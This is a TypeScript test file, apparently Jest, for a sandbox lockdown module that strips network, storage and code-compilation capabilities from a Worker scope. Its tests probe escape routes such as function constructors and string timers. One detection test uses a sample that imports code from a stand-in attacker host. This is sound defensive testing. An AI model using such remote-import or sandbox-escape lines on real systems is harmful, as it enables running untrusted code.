import { createContext, runInContext } from 'node:vm';
import { BLOCKED_GLOBALS, FORBIDDEN_SOURCE, lockDown } from './lockdown';

/** A fresh realm standing in for a Worker's scope, with the capabilities a Worker has. */
function fakeWorkerScope() {
  const posted: unknown[] = [];
  const context = createContext({
    fetch: () => 'network!',
    XMLHttpRequest: class {},
    WebSocket: class {},
    indexedDB: {},
    caches: {},
    BroadcastChannel: class {},
    importScripts: () => undefined,
    postMessage: (m: unknown) => posted.push(m),
    setTimeout,
    setInterval,
  });
  const scope = runInContext('globalThis', context) as Record<string, unknown>;
  return { scope, posted };
}

describe('lockDown', () => {
  it('removes network, storage, messaging and compilers from the scope', () => {
    const { scope } = fakeWorkerScope();
    const sandbox = lockDown(scope);
    const probe = sandbox.compile(
      [],
      `return [typeof fetch, typeof XMLHttpRequest, typeof WebSocket, typeof indexedDB, typeof caches,
        typeof BroadcastChannel, typeof importScripts, typeof postMessage, typeof eval, typeof Function,
        typeof globalThis.fetch];`,
    );
    expect(probe()).toEqual(Array(11).fill('undefined'));
    for (const name of BLOCKED_GLOBALS) expect(scope[name]).toBeUndefined();
  });

  it('leaves no way to compile new code from user code', () => {
    const { scope } = fakeWorkerScope();
    const sandbox = lockDown(scope);
    const viaConstructor = sandbox.compile([], 'return (() => {}).constructor;');
    expect(viaConstructor()).toBeUndefined();
    const viaAsync = sandbox.compile([], 'return (async () => {}).constructor;');
    expect(viaAsync()).toBeUndefined();
    const viaTimer = sandbox.compile([], 'setTimeout("1 + 1", 0);');
    expect(() => viaTimer()).toThrow(/needs a function/);
    // This module's realm is untouched (the lockdown works on the scope's own realm).
    expect((() => {}).constructor).toBe(Function);
  });

  it('keeps compiling and posting for the sandbox itself', () => {
    const { scope, posted } = fakeWorkerScope();
    const sandbox = lockDown(scope);
    expect(sandbox.compile(['inputs'], 'return inputs.a + "!";')({ a: 'x' })).toBe('x!');
    sandbox.post({ done: true });
    expect(posted).toEqual([{ done: true }]);
  });

  it('rejects source text that could import a module', () => {
    expect(FORBIDDEN_SOURCE.test('return import("https://evil.test/x.js")')).toBe(true);
    expect(FORBIDDEN_SOURCE.test('return import.meta.url')).toBe(true);
    expect(FORBIDDEN_SOURCE.test('return inputs.important')).toBe(false);
  });
});
